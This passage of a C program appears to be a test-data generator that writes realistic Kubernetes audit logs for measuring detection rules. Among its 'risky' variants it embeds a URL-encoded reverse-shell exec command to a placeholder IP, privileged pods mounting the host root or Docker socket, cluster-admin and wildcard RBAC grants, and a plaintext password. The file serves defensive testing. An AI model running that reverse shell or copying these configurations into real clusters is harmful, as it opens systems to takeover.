/*
 * gen_audit.c: a seeded generator of realistic Kubernetes audit logs, for tests and benchmarks.
 *
 *   gen-audit [--seed N] [--events N] [--format lines|pretty|eventlist|array] [--batch N]
 *             [--risky PCT] [--start RFC3339] [--profile default|cluster] [-o FILE]
 *
 * The mix follows a real cluster: most events are controller and node noise (lease renewals,
 * node status patches with large bodies, service accounts listing and watching), the rest are
 * people and CI acting on secrets, pods, workloads, services, RBAC, exec, tokens; --risky PCT
 * of the user actions are risky variants (privileged pods, hostPath /, cluster-admin
 * bindings, wildcard roles, LoadBalancer services, reverse-shell exec, ...). The same seed and
 * count give the same events (auditIDs included) in every format.
 *
 * --profile cluster writes something else: the routine traffic of an EKS-like cluster of 12
 * nodes with no attack in it (kubelets, control plane, EKS's own identities, operators, Helm
 * from CI, a few people reading), modelled on what the components are documented to do, to
 * measure a rule pack's noise. --risky does not apply to it. See "the cluster profile" below.
 *
 * The bundled sample was made with:
 *   gen-audit --seed 42 --events 2000 --risky 5 -o sample.log
 * and three bad lines inserted after line 1000 (see tests/fixtures/README.md).
 */
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

/* ---- output buffer ---- */

struct buf {
    char *p;
    size_t len;
    size_t cap;
};

static void need(struct buf *b, size_t n)
{
    if (b->cap - b->len >= n) {
        return;
    }
    size_t cap = b->cap ? b->cap : 4096;
    while (cap - b->len < n) {
        cap *= 2;
    }
    b->p = realloc(b->p, cap);
    if (b->p == NULL) {
        fputs("gen-audit: out of memory\n", stderr);
        exit(1);
    }
    b->cap = cap;
}

static void put(struct buf *b, const char *s, size_t n)
{
    need(b, n);
    memcpy(b->p + b->len, s, n);
    b->len += n;
}

static void puts_(struct buf *b, const char *s)
{
    put(b, s, strlen(s));
}

static void __attribute__((format(printf, 2, 3))) putf(struct buf *b, const char *fmt, ...)
{
    va_list ap;
    need(b, 256);
    va_start(ap, fmt);
    int n = vsnprintf(b->p + b->len, b->cap - b->len, fmt, ap);
    va_end(ap);
    if ((size_t)n >= b->cap - b->len) {
        need(b, (size_t)n + 1);
        va_start(ap, fmt);
        vsnprintf(b->p + b->len, b->cap - b->len, fmt, ap);
        va_end(ap);
    }
    b->len += (size_t)n;
}

/* A JSON string, escaped. */
static void jstr(struct buf *b, const char *s)
{
    need(b, strlen(s) * 2 + 2);
    b->p[b->len++] = '"';
    for (; *s != '\0'; s++) {
        unsigned char c = (unsigned char)*s;
        if (c == '"' || c == '\\') {
            b->p[b->len++] = '\\';
            b->p[b->len++] = (char)c;
        } else if (c == '\n') {
            b->p[b->len++] = '\\';
            b->p[b->len++] = 'n';
        } else if (c < 0x20) {
            need(b, 8);
            b->len += (size_t)sprintf(b->p + b->len, "\\u%04x", c);
        } else {
            b->p[b->len++] = (char)c;
        }
    }
    b->p[b->len++] = '"';
}

/* "key": as the start of a member; first == 0 adds the comma. */
static void key(struct buf *b, const char *k)
{
    if (b->len > 0 && b->p[b->len - 1] != '{' && b->p[b->len - 1] != '[') {
        b->p[b->len++] = ',';
    }
    jstr(b, k);
    need(b, 1);
    b->p[b->len++] = ':';
}

static void kv(struct buf *b, const char *k, const char *v)
{
    key(b, k);
    jstr(b, v);
}

/* ---- randomness (splitmix64) ---- */

static uint64_t rng_state;

static uint64_t rnd(void)
{
    uint64_t z = (rng_state += 0x9e3779b97f4a7c15ULL);
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
    return z ^ (z >> 31);
}

static unsigned below(unsigned n)
{
    return (unsigned)(rnd() % n);
}

static int chance(unsigned pct)
{
    return below(10000) < pct * 100;
}

#define PICK(arr) (arr[below(sizeof(arr) / sizeof(arr[0]))])

/* ---- the cluster ---- */

static const char *const humans[] = {"alice@example.com", "bob@example.com", "zoë@example.com",
                                     "oidc:carol", "system:serviceaccount:ci:deployer"};
static const char *const agents[] = {"kubectl/v1.29.3 (linux/amd64) kubernetes/6813625",
                                     "kubectl/v1.29.3 (darwin/arm64) kubernetes/6813625",
                                     "helm/v3.14.0",
                                     "curl/8.5.0",
                                     "python-requests/2.31.0",
                                     "Go-http-client/2.0"};
static const char *const namespaces[] = {"default", "payments",   "web",
                                         "data",    "monitoring", "kube-system"};
static const char *const images[] = {
    "docker.io/library/nginx:1.25", "registry.example.com:5000/team/api:2.1",
    "gcr.io/proj/app@sha256:4f53cda18c2baa0c0354bb5f9a3ecbe5ed12ab4d8e11ba873c2f11161202b945",
    "quay.io/prometheus/node-exporter:v1.7.0", "busybox"};
static const char *const controllers[] = {
    "system:serviceaccount:kube-system:replicaset-controller",
    "system:serviceaccount:kube-system:endpointslice-controller",
    "system:serviceaccount:kube-system:deployment-controller", "system:kube-controller-manager",
    "system:serviceaccount:kube-system:coredns"};

static int64_t clock_us;   /* event time */
static unsigned risky_pct; /* share of risky user actions */

static void uuid(char out[37])
{
    uint64_t a = rnd(), b = rnd();
    a = (a & 0xffffffffffff0fffULL) | 0x4000ULL;
    b = (b & 0x3fffffffffffffffULL) | 0x8000000000000000ULL;
    snprintf(out, 37, "%08x-%04x-%04x-%04x-%012llx", (unsigned)(a >> 32),
             (unsigned)((a >> 16) & 0xffff), (unsigned)(a & 0xffff), (unsigned)(b >> 48),
             (unsigned long long)(b & 0xffffffffffffULL));
}

static void timestamp(int64_t us, char out[40])
{
    time_t secs = (time_t)(us / 1000000);
    struct tm tm;
    gmtime_r(&secs, &tm);
    size_t n = strftime(out, 40, "%Y-%m-%dT%H:%M:%S", &tm);
    snprintf(out + n, 40 - n, ".%06dZ", (int)(us % 1000000));
}

/* What one request looks like; fields NULL are left out. */
struct req {
    const char *level, *verb, *user, *agent, *ip;
    const char *resource, *subresource, *ns, *name, *group, *version;
    char uri[512];
    int code;
    int watch;           /* ResponseStarted + ResponseComplete */
    int started_only;    /* exec-like: ResponseStarted then ResponseComplete */
    const char *sa_pod;  /* service account token bound to this pod */
    struct buf *reqobj;  /* requestObject JSON, or NULL */
    struct buf *respobj; /* responseObject JSON, or NULL */
    const char *reason;  /* failure reason */
    /* set by the cluster profile only; NULL (0) keeps the default profile's output */
    const char *groups; /* user.groups as a JSON array, or NULL: guessed from the name */
    const char *extra;  /* user.extra as a JSON object, or NULL */
    const char *uid;    /* user.uid ("" for none), or NULL: random for non-system users */
    const char *authz;  /* authorization.k8s.io/reason, or NULL: guessed from the name */
    int started_code;   /* ResponseStarted code, or 0: 101 (an upgraded exec stream) */
};

static struct buf body_req, body_resp;

static void groups_for(struct buf *b, const char *user)
{
    key(b, "groups");
    if (strncmp(user, "system:serviceaccount:", 22) == 0) {
        char ns[128];
        const char *p = user + 22, *e = strchr(p, ':');
        snprintf(ns, sizeof(ns), "system:serviceaccounts:%.*s", (int)(e ? e - p : 0), p);
        puts_(b, "[\"system:serviceaccounts\",");
        jstr(b, ns);
        puts_(b, ",\"system:authenticated\"]");
    } else if (strncmp(user, "system:node:", 12) == 0) {
        puts_(b, "[\"system:nodes\",\"system:authenticated\"]");
    } else if (strcmp(user, "system:anonymous") == 0) {
        puts_(b, "[\"system:unauthenticated\"]");
    } else if (strncmp(user, "system:", 7) == 0) {
        puts_(b, "[\"system:authenticated\"]");
    } else {
        puts_(b, "[\"developers\",\"system:authenticated\"]");
    }
}

static void emit_event(struct buf *b, const struct req *r, const char *id, const char *stage,
                       int64_t recv, int64_t at)
{
    char ts[40];
    puts_(b, "{");
    kv(b, "kind", "Event");
    kv(b, "apiVersion", "audit.k8s.io/v1");
    kv(b, "level", r->level);
    kv(b, "auditID", id);
    kv(b, "stage", stage);
    kv(b, "requestURI", r->uri);
    kv(b, "verb", r->verb);
    key(b, "user");
    puts_(b, "{");
    kv(b, "username", r->user);
    if (r->uid != NULL) {
        if (r->uid[0] != '\0') {
            kv(b, "uid", r->uid);
        }
    } else if (strncmp(r->user, "system:", 7) != 0) {
        char uid[37];
        uuid(uid);
        kv(b, "uid", uid);
    }
    if (r->groups != NULL) {
        key(b, "groups");
        puts_(b, r->groups);
    } else {
        groups_for(b, r->user);
    }
    if (r->extra != NULL) {
        key(b, "extra");
        puts_(b, r->extra);
    } else if (r->sa_pod != NULL) {
        key(b, "extra");
        puts_(b, "{\"authentication.kubernetes.io/credential-id\":[\"JTI=");
        putf(b, "%08x", (unsigned)rnd());
        puts_(b, "\"],\"authentication.kubernetes.io/pod-name\":[");
        jstr(b, r->sa_pod);
        puts_(b, "]}");
    }
    puts_(b, "}");
    key(b, "sourceIPs");
    puts_(b, "[");
    jstr(b, r->ip);
    puts_(b, "]");
    kv(b, "userAgent", r->agent);
    if (r->resource != NULL) {
        key(b, "objectRef");
        puts_(b, "{");
        kv(b, "resource", r->resource);
        if (r->ns) {
            kv(b, "namespace", r->ns);
        }
        if (r->name) {
            kv(b, "name", r->name);
        }
        if (r->group) {
            kv(b, "apiGroup", r->group);
        }
        kv(b, "apiVersion", r->version ? r->version : "v1");
        if (r->subresource) {
            kv(b, "subresource", r->subresource);
        }
        puts_(b, "}");
    }
    int final = strcmp(stage, "ResponseComplete") == 0;
    key(b, "responseStatus");
    if (!final) {
        putf(b, "{\"metadata\":{},\"code\":%d}", r->started_code ? r->started_code : 101);
    } else if (r->code < 400) {
        putf(b, "{\"metadata\":{},\"code\":%d}", r->code);
    } else {
        puts_(b, "{\"metadata\":{},\"status\":\"Failure\"");
        kv(b, "message", r->reason ? r->reason : "forbidden");
        putf(b, ",\"reason\":\"%s\",\"code\":%d}",
             r->code == 403   ? "Forbidden"
             : r->code == 409 ? "Conflict"
                              : "NotFound",
             r->code);
    }
    if (r->reqobj != NULL && strcmp(r->level, "Metadata") != 0) {
        key(b, "requestObject");
        put(b, r->reqobj->p, r->reqobj->len);
    }
    if (final && r->respobj != NULL && strcmp(r->level, "RequestResponse") == 0) {
        key(b, "responseObject");
        put(b, r->respobj->p, r->respobj->len);
    }
    timestamp(recv, ts);
    kv(b, "requestReceivedTimestamp", ts);
    timestamp(at, ts);
    kv(b, "stageTimestamp", ts);
    key(b, "annotations");
    puts_(b, "{");
    kv(b, "authorization.k8s.io/decision", r->code == 403 ? "forbid" : "allow");
    if (r->code == 403) {
        kv(b, "authorization.k8s.io/reason", "");
    } else if (r->authz != NULL) {
        kv(b, "authorization.k8s.io/reason", r->authz);
    } else if (strncmp(r->user, "system:", 7) == 0) {
        kv(b, "authorization.k8s.io/reason",
           "RBAC: allowed by ClusterRoleBinding \"system:controller\" of ClusterRole "
           "\"system:controller\" to User");
    } else {
        kv(b, "authorization.k8s.io/reason",
           "RBAC: allowed by RoleBinding \"dev-edit/default\" of ClusterRole \"edit\" to Group "
           "\"developers\"");
    }
    puts_(b, "}}");
}

/* ---- bodies ---- */

static void pod_spec(struct buf *b, int risky)
{
    unsigned n = 1 + below(3);
    puts_(b, "{");
    if (risky && chance(30)) {
        puts_(b, "\"hostNetwork\":true,");
    }
    if (risky && chance(15)) {
        puts_(b, "\"hostPID\":true,");
    }
    if (!risky && chance(60)) {
        puts_(b, "\"securityContext\":{\"runAsNonRoot\":true,\"runAsUser\":10001,"
                 "\"seccompProfile\":{\"type\":\"RuntimeDefault\"}},");
    } else if (risky && chance(30)) {
        puts_(
            b,
            "\"securityContext\":{\"runAsUser\":0,\"seccompProfile\":{\"type\":\"Unconfined\"}},");
    }
    puts_(b, "\"containers\":[");
    for (unsigned i = 0; i < n; i++) {
        if (i > 0) {
            puts_(b, ",");
        }
        putf(b, "{\"name\":\"c%u\"", i);
        kv(b, "image", PICK(images));
        puts_(b, ",\"ports\":[{\"containerPort\":8080,\"protocol\":\"TCP\"}],");
        puts_(b, "\"resources\":{\"limits\":{\"cpu\":\"500m\",\"memory\":\"256Mi\"}},");
        puts_(b,
              "\"env\":[{\"name\":\"MODE\",\"value\":\"production\"},{\"name\":\"MSG\",\"value\":"
              "\"say \\\"hi\\\"\"}],");
        if (risky && chance(40)) {
            puts_(b, "\"securityContext\":{\"privileged\":true}");
        } else if (risky && chance(40)) {
            puts_(b,
                  "\"securityContext\":{\"capabilities\":{\"add\":[\"SYS_ADMIN\",\"NET_ADMIN\"]},"
                  "\"allowPrivilegeEscalation\":true}");
        } else if (chance(70)) {
            puts_(b, "\"securityContext\":{\"allowPrivilegeEscalation\":false,"
                     "\"readOnlyRootFilesystem\":true,\"capabilities\":{\"drop\":[\"ALL\"]}}");
        } else {
            puts_(b, "\"securityContext\":{}");
        }
        puts_(b, ",\"volumeMounts\":[{\"name\":\"config\",\"mountPath\":\"/etc/app\"}");
        if (risky && i == 0) {
            puts_(b, ",{\"name\":\"host\",\"mountPath\":\"/host\"}");
        }
        puts_(b, "]}");
    }
    puts_(b, "],\"volumes\":[{\"name\":\"config\",\"configMap\":{\"name\":\"app-config\"}}");
    if (risky) {
        puts_(b, chance(50)
                     ? ",{\"name\":\"host\",\"hostPath\":{\"path\":\"/\"}}"
                     : ",{\"name\":\"host\",\"hostPath\":{\"path\":\"/var/run/docker.sock\"}}");
    }
    puts_(b, "],\"restartPolicy\":\"Always\",\"serviceAccountName\":\"default\"}");
}

static void metadata(struct buf *b, const char *name, const char *ns, int with_status)
{
    puts_(b, "\"metadata\":{");
    kv(b, "name", name);
    if (ns) {
        kv(b, "namespace", ns);
    }
    puts_(b, ",\"labels\":{\"app\":\"web\",\"team\":\"payments\"}");
    if (with_status) {
        char uid[37];
        uuid(uid);
        kv(b, "uid", uid);
        putf(b, ",\"resourceVersion\":\"%u\"", 100000 + below(900000));
    }
    puts_(b, "}");
}

static void node_status(struct buf *b, int huge)
{
    unsigned nimages = huge ? 600 + below(300) : 10 + below(30);
    puts_(b, "{\"status\":{\"conditions\":[");
    static const char *const conds[] = {"MemoryPressure", "DiskPressure", "PIDPressure", "Ready"};
    for (unsigned i = 0; i < 4; i++) {
        putf(b,
             "%s{\"type\":\"%s\",\"status\":\"%s\",\"lastHeartbeatTime\":\"2024-05-01T00:00:00Z\","
             "\"reason\":\"KubeletHasSufficient\",\"message\":\"kubelet is posting ready status\"}",
             i ? "," : "", conds[i], i == 3 ? "True" : "False");
    }
    puts_(b, "],\"images\":[");
    for (unsigned i = 0; i < nimages; i++) {
        putf(b,
             "%s{\"names\":[\"registry.example.com/img%u@sha256:%016llx%016llx\","
             "\"registry.example.com/img%u:v%u\"],\"sizeBytes\":%u}",
             i ? "," : "", i, (unsigned long long)rnd(), (unsigned long long)rnd(), i, i % 7,
             1000000 + below(90000000));
    }
    puts_(b, "]}}");
}

/* ---- one request of each kind ---- */

static void fill_common(struct req *r, const char *user, const char *agent)
{
    memset(r, 0, sizeof(*r));
    r->level = "Metadata";
    r->user = user;
    r->agent = agent;
    r->ip = "10.0.0.10";
    r->code = 200;
}

static void resource_uri(struct req *r, int collection)
{
    const char *prefix = r->group ? "/apis/" : "/api";
    char gv[128];
    if (r->group) {
        snprintf(gv, sizeof(gv), "%s/%s", r->group, r->version ? r->version : "v1");
    } else {
        snprintf(gv, sizeof(gv), "/v1");
    }
    int n = snprintf(r->uri, sizeof(r->uri), "%s%s", prefix, r->group ? gv : gv + 1);
    if (r->group == NULL) {
        n = snprintf(r->uri, sizeof(r->uri), "/api/v1");
    }
    if (r->ns) {
        n += snprintf(r->uri + n, sizeof(r->uri) - (size_t)n, "/namespaces/%s", r->ns);
    }
    n += snprintf(r->uri + n, sizeof(r->uri) - (size_t)n, "/%s", r->resource);
    if (!collection && r->name) {
        n += snprintf(r->uri + n, sizeof(r->uri) - (size_t)n, "/%s", r->name);
    }
    if (r->subresource) {
        snprintf(r->uri + n, sizeof(r->uri) - (size_t)n, "/%s", r->subresource);
    }
}

static char name_buf[128], node_buf[64], pod_buf[64];

static void make_request(struct req *r)
{
    unsigned k = below(1000);
    int risky = chance(risky_pct);
    body_req.len = body_resp.len = 0;
    snprintf(node_buf, sizeof(node_buf), "system:node:ip-10-0-%u-%u.ec2.internal", below(4),
             below(50));
    snprintf(pod_buf, sizeof(pod_buf), "web-%05x-%04x", below(0xfffff), below(0xffff));
    if (k < 250) { /* lease renewal */
        fill_common(r, node_buf, "kubelet/v1.29.3 (linux/amd64) kubernetes/6813625");
        r->verb = "update";
        r->resource = "leases";
        r->group = "coordination.k8s.io";
        r->ns = "kube-node-lease";
        r->name = node_buf + 12;
        resource_uri(r, 0);
    } else if (k < 300) { /* node status patch, big bodies */
        fill_common(r, node_buf, "kubelet/v1.29.3 (linux/amd64) kubernetes/6813625");
        r->level = "RequestResponse";
        r->verb = "patch";
        r->resource = "nodes";
        r->subresource = "status";
        r->name = node_buf + 12;
        resource_uri(r, 0);
        node_status(&body_req, chance(8));
        r->reqobj = &body_req;
        puts_(&body_resp, "{\"kind\":\"Node\",\"apiVersion\":\"v1\",");
        metadata(&body_resp, node_buf + 12, NULL, 1);
        puts_(&body_resp, "}");
        r->respobj = &body_resp;
    } else if (k < 550) { /* controllers reading */
        static const char *const res[] = {"configmaps", "endpoints", "pods", "replicasets"};
        fill_common(r, PICK(controllers), "kube-controller-manager/v1.29.3 (linux/amd64)");
        r->resource = PICK(res);
        if (strcmp(r->resource, "replicasets") == 0) {
            r->group = "apps";
        }
        r->ns = PICK(namespaces);
        int w = below(3);
        r->verb = w == 0 ? "get" : w == 1 ? "list" : "watch";
        if (w == 0) {
            r->name = "kube-root-ca.crt";
        }
        resource_uri(r, w != 0);
        if (w == 2) {
            strncat(r->uri, "?allowWatchBookmarks=true&resourceVersion=1234&watch=true",
                    sizeof(r->uri) - strlen(r->uri) - 1);
            r->watch = 1;
        }
    } else if (k < 600) { /* scheduler binding */
        fill_common(r, "system:kube-scheduler", "kube-scheduler/v1.29.3 (linux/amd64)");
        r->level = "Request";
        r->verb = "create";
        r->resource = "pods";
        r->subresource = "binding";
        r->ns = PICK(namespaces);
        r->name = pod_buf;
        resource_uri(r, 0);
        puts_(&body_req, "{\"kind\":\"Binding\",\"apiVersion\":\"v1\",");
        metadata(&body_req, pod_buf, r->ns, 0);
        puts_(&body_req, ",\"target\":{\"kind\":\"Node\",\"name\":");
        jstr(&body_req, node_buf + 12);
        puts_(&body_req, "}}");
        r->reqobj = &body_req;
        r->code = 201;
    } else if (k < 650) { /* health checks */
        static const char *const paths[] = {"/healthz", "/readyz", "/livez", "/version"};
        fill_common(r, "system:anonymous", "kube-probe/1.29");
        r->verb = "get";
        snprintf(r->uri, sizeof(r->uri), "%s", PICK(paths));
        r->ip = "10.0.0.1";
    } else if (k < 740) { /* people reading secrets */
        fill_common(r, PICK(humans), PICK(agents));
        r->verb = chance(70) ? "get" : "list";
        r->resource = "secrets";
        r->ns = risky && chance(30) ? NULL : PICK(namespaces);
        if (strcmp(r->verb, "get") == 0 && r->ns) {
            r->name = "db-credentials";
        } else {
            r->verb = "list";
        }
        if (risky) {
            r->agent = "curl/8.5.0";
        }
        r->ip = "203.0.113.7";
        resource_uri(r, r->name == NULL);
    } else if (k < 800) { /* pods created */
        fill_common(r, PICK(humans), PICK(agents));
        r->level = "RequestResponse";
        r->verb = "create";
        r->resource = "pods";
        r->ns = PICK(namespaces);
        r->name = pod_buf;
        resource_uri(r, 1);
        puts_(&body_req, "{\"kind\":\"Pod\",\"apiVersion\":\"v1\",");
        metadata(&body_req, pod_buf, r->ns, 0);
        puts_(&body_req, ",\"spec\":");
        pod_spec(&body_req, risky);
        puts_(&body_req, "}");
        r->reqobj = &body_req;
        puts_(&body_resp, "{\"kind\":\"Pod\",\"apiVersion\":\"v1\",");
        metadata(&body_resp, pod_buf, r->ns, 1);
        puts_(&body_resp, ",\"status\":{\"phase\":\"Pending\",\"qosClass\":\"Burstable\"}}");
        r->respobj = &body_resp;
        r->code = 201;
    } else if (k < 850) { /* deployments */
        fill_common(r, PICK(humans), "helm/v3.14.0");
        r->level = "RequestResponse";
        r->verb = chance(50) ? "create" : "patch";
        r->resource = "deployments";
        r->group = "apps";
        r->ns = PICK(namespaces);
        snprintf(name_buf, sizeof(name_buf), "api-%u", below(40));
        r->name = name_buf;
        resource_uri(r, strcmp(r->verb, "create") == 0);
        if (strcmp(r->verb, "create") == 0) {
            puts_(&body_req, "{\"kind\":\"Deployment\",\"apiVersion\":\"apps/v1\",");
            metadata(&body_req, name_buf, r->ns, 0);
            puts_(&body_req,
                  ",\"spec\":{\"replicas\":3,\"selector\":{\"matchLabels\":{\"app\":\"web\"}},"
                  "\"template\":{\"metadata\":{\"labels\":{\"app\":\"web\"}},\"spec\":");
            pod_spec(&body_req, risky);
            puts_(&body_req, "}}}");
            r->code = 201;
        } else {
            puts_(&body_req, "{\"spec\":{\"replicas\":");
            putf(&body_req, "%u}}", 1 + below(9));
        }
        r->reqobj = &body_req;
        puts_(&body_resp, "{\"kind\":\"Deployment\",\"apiVersion\":\"apps/v1\",");
        metadata(&body_resp, name_buf, r->ns, 1);
        puts_(&body_resp, "}");
        r->respobj = &body_resp;
    } else if (k < 880) { /* services */
        fill_common(r, PICK(humans), PICK(agents));
        r->level = "RequestResponse";
        r->verb = "create";
        r->resource = "services";
        r->ns = PICK(namespaces);
        snprintf(name_buf, sizeof(name_buf), "svc-%u", below(100));
        r->name = name_buf;
        resource_uri(r, 1);
        puts_(&body_req, "{\"kind\":\"Service\",\"apiVersion\":\"v1\",");
        metadata(&body_req, name_buf, r->ns, 0);
        unsigned t = risky ? below(3) : 3;
        puts_(&body_req, ",\"spec\":{\"type\":");
        puts_(&body_req, t == 0 ? "\"LoadBalancer\"" : t == 1 ? "\"NodePort\"" : "\"ClusterIP\"");
        if (t == 2) {
            puts_(&body_req, ",\"externalIPs\":[\"198.51.100.23\"]");
        }
        puts_(&body_req, ",\"ports\":[{\"port\":80,\"targetPort\":8080,\"protocol\":\"TCP\"}],"
                         "\"selector\":{\"app\":\"web\"}}}");
        r->reqobj = &body_req;
        r->respobj = &body_req;
        r->code = 201;
    } else if (k < 910) { /* configmaps */
        fill_common(r, PICK(humans), PICK(agents));
        r->level = chance(50) ? "Metadata" : "Request";
        r->verb = "create";
        r->resource = "configmaps";
        r->ns = PICK(namespaces);
        r->name = "app-config";
        resource_uri(r, 1);
        puts_(&body_req, "{\"kind\":\"ConfigMap\",\"apiVersion\":\"v1\",");
        metadata(&body_req, "app-config", r->ns, 0);
        puts_(&body_req, ",\"data\":{\"app.yaml\":\"mode: production\\nname: \\\"web\\\"\\n\"");
        if (risky) {
            puts_(&body_req, ",\"db_password\":\"hunter2\"");
        }
        puts_(&body_req, "}}");
        r->reqobj = &body_req;
        r->code = 201;
    } else if (k < 930) { /* RBAC */
        fill_common(r, PICK(humans), PICK(agents));
        r->level = "RequestResponse";
        r->verb = "create";
        r->group = "rbac.authorization.k8s.io";
        if (chance(50)) {
            r->resource = "clusterrolebindings";
            snprintf(name_buf, sizeof(name_buf), "binding-%u", below(100));
            r->name = name_buf;
            puts_(&body_req, "{\"kind\":\"ClusterRoleBinding\",\"apiVersion\":\"rbac.authorization."
                             "k8s.io/v1\",");
            metadata(&body_req, name_buf, NULL, 0);
            puts_(&body_req, ",\"subjects\":[{\"kind\":\"User\",\"apiGroup\":\"rbac.authorization."
                             "k8s.io\",\"name\":");
            jstr(&body_req, PICK(humans));
            puts_(&body_req, "}],\"roleRef\":{\"apiGroup\":\"rbac.authorization.k8s.io\",\"kind\":"
                             "\"ClusterRole\",\"name\":");
            puts_(&body_req, risky ? "\"cluster-admin\"}}" : "\"view\"}}");
        } else {
            r->resource = "clusterroles";
            snprintf(name_buf, sizeof(name_buf), "role-%u", below(100));
            r->name = name_buf;
            puts_(&body_req,
                  "{\"kind\":\"ClusterRole\",\"apiVersion\":\"rbac.authorization.k8s.io/v1\",");
            metadata(&body_req, name_buf, NULL, 0);
            puts_(&body_req, risky ? ",\"rules\":[{\"apiGroups\":[\"*\"],\"resources\":[\"*\"],"
                                     "\"verbs\":[\"*\"]}]}"
                                   : ",\"rules\":[{\"apiGroups\":[\"\"],\"resources\":[\"pods\"],"
                                     "\"verbs\":[\"get\",\"list\"]}]}");
        }
        resource_uri(r, 1);
        r->reqobj = &body_req;
        r->respobj = &body_req;
        r->code = 201;
    } else if (k < 950) { /* exec */
        fill_common(r, PICK(humans), PICK(agents));
        r->verb = "create";
        r->resource = "pods";
        r->subresource = "exec";
        r->ns = PICK(namespaces);
        r->name = pod_buf;
        snprintf(r->uri, sizeof(r->uri),
                 "/api/v1/namespaces/%s/pods/%s/"
                 "exec?command=%s&container=c0&stdin=true&stdout=true&tty=true",
                 r->ns, pod_buf,
                 risky ? "bash&command=-c&command=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F198.51.100.9%"
                         "2F4444%200%3E%261"
                       : "sh&command=-c&command=id");
        r->started_only = 1;
    } else if (k < 965) { /* tokens */
        fill_common(r, PICK(humans), PICK(agents));
        r->level = "Request";
        r->verb = "create";
        r->resource = "serviceaccounts";
        r->subresource = "token";
        r->ns = PICK(namespaces);
        r->name = "default";
        resource_uri(r, 0);
        puts_(&body_req, "{\"kind\":\"TokenRequest\",\"apiVersion\":\"authentication.k8s.io/v1\","
                         "\"spec\":{\"audiences\":[\"https://"
                         "kubernetes.default.svc\"],\"expirationSeconds\":3600}}");
        r->reqobj = &body_req;
        r->code = 201;
    } else if (k < 990) { /* forbidden */
        fill_common(r, PICK(humans), PICK(agents));
        r->verb = chance(50) ? "create" : "list";
        r->resource = chance(50) ? "clusterrolebindings" : "secrets";
        if (strcmp(r->resource, "clusterrolebindings") == 0) {
            r->group = "rbac.authorization.k8s.io";
        } else {
            r->ns = "kube-system";
        }
        resource_uri(r, 1);
        r->code = 403;
        r->reason =
            "secrets is forbidden: User \"bob@example.com\" cannot list resource \"secrets\" "
            "in API group \"\" in the namespace \"kube-system\"";
    } else if (k < 995) { /* service account tokens used from pods */
        fill_common(r, "system:serviceaccount:web:default",
                    risky ? "curl/8.5.0" : "Go-http-client/2.0");
        r->sa_pod = pod_buf;
        r->verb = "get";
        r->resource = "configmaps";
        r->ns = "web";
        r->name = "app-config";
        r->ip = "10.1.4.17";
        resource_uri(r, 0);
    } else { /* anonymous */
        fill_common(r, "system:anonymous", "python-requests/2.31.0");
        r->verb = "get";
        r->ip = "198.51.100.50";
        if (risky) {
            r->resource = "pods";
            r->verb = "list";
            resource_uri(r, 1);
        } else {
            snprintf(r->uri, sizeof(r->uri), "/.well-known/openid-configuration");
        }
    }
}

/* ---- output formats ---- */

/* Re-indent compact JSON with two spaces, respecting strings. */
static void pretty(struct buf *out, const char *p, size_t n, int base)
{
    int depth = base, in_str = 0;
    for (size_t i = 0; i < n; i++) {
        char c = p[i];
        if (in_str) {
            put(out, &c, 1);
            if (c == '\\') {
                put(out, &p[++i], 1);
            } else if (c == '"') {
                in_str = 0;
            }
            continue;
        }
        switch (c) {
        case '"':
            in_str = 1;
            put(out, &c, 1);
            break;
        case '{':
        case '[':
            if (i + 1 < n && (p[i + 1] == '}' || p[i + 1] == ']')) {
                put(out, &c, 1);
                put(out, &p[++i], 1);
                break;
            }
            put(out, &c, 1);
            depth++;
            put(out, "\n", 1);
            for (int d = 0; d < depth; d++) {
                put(out, "  ", 2);
            }
            break;
        case '}':
        case ']':
            depth--;
            put(out, "\n", 1);
            for (int d = 0; d < depth; d++) {
                put(out, "  ", 2);
            }
            put(out, &c, 1);
            break;
        case ',':
            put(out, ",\n", 2);
            for (int d = 0; d < depth; d++) {
                put(out, "  ", 2);
            }
            break;
        case ':':
            put(out, ": ", 2);
            break;
        default:
            put(out, &c, 1);
        }
    }
}

static int parse_start(const char *s, int64_t *out)
{
    struct tm tm;
    memset(&tm, 0, sizeof(tm));
    if (sscanf(s, "%d-%d-%dT%d:%d:%d", &tm.tm_year, &tm.tm_mon, &tm.tm_mday, &tm.tm_hour,
               &tm.tm_min, &tm.tm_sec) != 6) {
        return -1;
    }
    tm.tm_year -= 1900;
    tm.tm_mon -= 1;
    *out = (int64_t)timegm(&tm) * 1000000;
    return 0;
}

/* Where events go: the chosen format, and how many are still wanted. */
static struct {
    FILE *out;
    int fmt;          /* 0 lines, 1 pretty, 2 eventlist, 3 array */
    unsigned batch;   /* events per EventList */
    uint64_t limit;   /* --events */
    uint64_t written; /* events written so far */
    uint64_t in_list; /* events in the open EventList */
    struct buf ev;    /* the event being written, compact JSON */
    struct buf pbuf;  /* its pretty form */
} sink;

/* Writes sink.ev in the chosen format and counts it. */
static void sink_write(void)
{
    FILE *out = sink.out;
    if (sink.fmt == 1) {
        sink.pbuf.len = 0;
        pretty(&sink.pbuf, sink.ev.p, sink.ev.len, 0);
        fwrite(sink.pbuf.p, 1, sink.pbuf.len, out);
        fputc('\n', out);
    } else if (sink.fmt == 2) {
        if (sink.in_list == 0) {
            fputs("{\"kind\":\"EventList\",\"apiVersion\":\"audit.k8s.io/"
                  "v1\",\"metadata\":{},"
                  "\"items\":[",
                  out);
        } else {
            fputc(',', out);
        }
        fwrite(sink.ev.p, 1, sink.ev.len, out);
        if (++sink.in_list == sink.batch) {
            fputs("]}\n", out);
            sink.in_list = 0;
        }
    } else if (sink.fmt == 3) {
        if (sink.written > 0) {
            fputs(",\n", out);
        }
        fwrite(sink.ev.p, 1, sink.ev.len, out);
    } else {
        fwrite(sink.ev.p, 1, sink.ev.len, out);
        fputc('\n', out);
    }
    sink.written++;
}

/* ---- the cluster profile (--profile cluster) ----
 *
 * Routine traffic of an EKS-like cluster of 12 nodes, with no attack in it: what a rule pack
 * sees all day, to measure its noise. It is modelled on what the components are documented to
 * do, not on any rule: a discrete-event simulation where each actor (a kubelet's lease, an
 * informer's watch, a leader election, the pod churn, a Helm deploy, a person's kubectl
 * session...) fires at its own period and reschedules itself, so rates are real rates (about
 * 9 events a second; leases and watches dominate) and time only moves forward. Policy as a
 * common one: RequestReceived omitted, events (the Kubernetes kind) dropped, secrets,
